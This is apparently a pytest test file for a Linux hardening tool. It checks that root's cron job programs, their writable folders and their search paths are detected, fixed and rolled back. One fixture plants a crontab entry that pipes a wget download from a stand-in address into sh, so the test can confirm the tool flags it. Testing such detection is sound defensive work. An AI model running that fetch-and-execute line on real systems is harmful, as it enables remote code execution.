"""Promises of the programs that root's jobs run: which they are, and that a fix shuts out who else could change them."""

from __future__ import annotations

from pathlib import Path

import pytest
from lab.hosts import Lab

from setright.model import Tree
from setright.surfaces.base import SurfaceError
from setright.surfaces.linux.evidence import Evidence
from setright.surfaces.linux.states import deeds, in_words, job_programs
from setright.surfaces.linux.states.job_programs import run_words
from setright.surfaces.linux.transport import Reply
from tests.surfaces.linux.states import Loop


@pytest.mark.parametrize(
    ("line", "run"),
    [
        ("/opt/a /etc/passwd >/var/log/a 2>&1", ["/opt/a"]),
        ("cd /opt && ./run.sh", ["cd", "./run.sh"]),
        ("test -x /opt/a || ( cd / && run-parts /etc/cron.daily )", ["test", "cd", "run-parts"]),
        ("A=b /opt/a; /opt/b|/opt/c", ["/opt/a", "/opt/b", "/opt/c"]),
        ("nice -n 10 timeout 5m /opt/a /opt/b", ["nice", "timeout", "/opt/a"]),
        ("flock -n /run/lock/x /opt/a", ["flock", "/opt/a"]),
        ("python3 -u /opt/a.py /srv/data", ["python3", "/opt/a.py"]),
        ("bash -c 'cd /opt; /opt/a'", ["bash", "cd", "/opt/a"]),
        ("cat /srv/list | sh", ["cat", "sh"]),
        ("if true; then /opt/a; fi", ["if", "true", "then", "/opt/a", "fi"]),
        ('"', []),
    ],
)
def test_what_a_command_line_runs_is_told_from_what_it_reads(line: str, run: list[str]) -> None:
    assert run_words(line) == run


MADE = """useradd -m ann; mkdir -p /opt/app /home/ann/bin
printf '#!/bin/sh\n' | tee /opt/app/run.sh /opt/app/data.sh /home/ann/bin/job /etc/cron.daily/mine /opt/mine.py >/dev/null
chmod 775 /opt/app/*.sh; chgrp ann /opt/app/run.sh; chown ann /opt/mine.py; chmod 755 /home/ann/bin/job /etc/cron.daily/mine
chown ann /home/ann/bin
cat >/etc/cron.d/mine <<END
0 1 * * * root cd /opt/app && ./run.sh data.sh
@daily root nice /home/ann/bin/job
1 1 * * * ann /opt/app/data.sh
END
printf '%s\n' 'MAILTO=ops' '*/5 * * * * python3 /opt/mine.py' >/var/spool/cron/crontabs/root
chmod 600 /var/spool/cron/crontabs/root"""
MODES = "stat -c '%U:%G %a %n' /opt/app/run.sh /opt/mine.py /opt/app/data.sh"


@pytest.mark.root
def test_what_others_could_change_is_found_shut_and_given_back(host: Lab, tmp_path: Path) -> None:
    loop = Loop(host, tmp_path, "linux/job-program/*", "linux/cron/*")
    assert not loop.wrong()
    loop.sh(MADE)
    before = loop.sh(MODES)
    found = {finding.control: finding.mismatches for finding in loop.found()}
    assert found.keys() == {"linux/job-program/writers", "linux/job-program/folders"}
    assert len(found["linux/job-program/writers"]) == 2, "run.sh and mine.py; data.sh is an argument, and a job of another"
    run = loop.fix()
    assert loop.outcomes(run) == ["state:job-programs: verified"]
    assert loop.sh(MODES) == "root:ann 755 /opt/app/run.sh\nroot:root 644 /opt/mine.py\nroot:root 775 /opt/app/data.sh\n"
    assert loop.wrong() == {("job-program/folders", "state:job-programs")}
    loop.rollback(run)
    assert loop.sh(MODES) == before


@pytest.mark.root
def test_a_search_path_that_others_write_to_is_cut_where_root_has_jobs(host: Lab, tmp_path: Path) -> None:
    loop = Loop(host, tmp_path, "linux/cron/*")
    table = "PATH=/tmp:/usr/sbin:/usr/bin\n@daily {} logrotate\n"
    loop.sh(f"printf '{table.format('root')}' >/etc/cron.d/a; printf '{table.format('ops')}' >/etc/cron.d/b")
    loop.sh("printf '@daily wget -qO- http://192.0.2.1/x | sh\n' >/var/spool/cron/crontabs/ops")
    assert loop.wrong() == {("cron/search-path", "/etc/cron.d/a"), ("cron/downloads", "/var/spool/cron/crontabs/ops")}
    run = loop.fix()
    assert loop.outcomes(run) == ["/etc/cron.d/a: verified"]
    assert loop.sh("cat /etc/cron.d/a") == "PATH=/usr/sbin:/usr/bin\n@daily root logrotate\n"


PROGRAM = {"path": "/opt/a b", "owner": "ops", "group": "ops", "mode": "0777", "jobs": ["/etc/crontab"]}


def test_only_the_owner_and_the_mode_of_programs_are_changed() -> None:
    before, after = (
        {"programs": [PROGRAM], "folders": []},
        {"programs": [PROGRAM | {"owner": "root", "mode": "0755"}], "folders": []},
    )
    assert in_words("job-programs", before, after) == ("0777 ops:ops /opt/a b\n", "0755 root:ops /opt/a b\n")
    assert deeds("job-programs", before, after) == "chown -- root:ops '/opt/a b' || exit 1\nchmod -- 0755 '/opt/a b' || exit 1"
    others: list[Tree] = [{"programs": [], "folders": []}, {"programs": [PROGRAM], "folders": [PROGRAM]}]
    for other in others:
        with pytest.raises(SurfaceError, match="only the owner"):
            deeds("job-programs", before, other)


def test_who_may_not_look_tells_nothing() -> None:
    assert job_programs.tell(Evidence({job_programs.TABLES: [Reply("", b"", "ended with 13")]})) is None
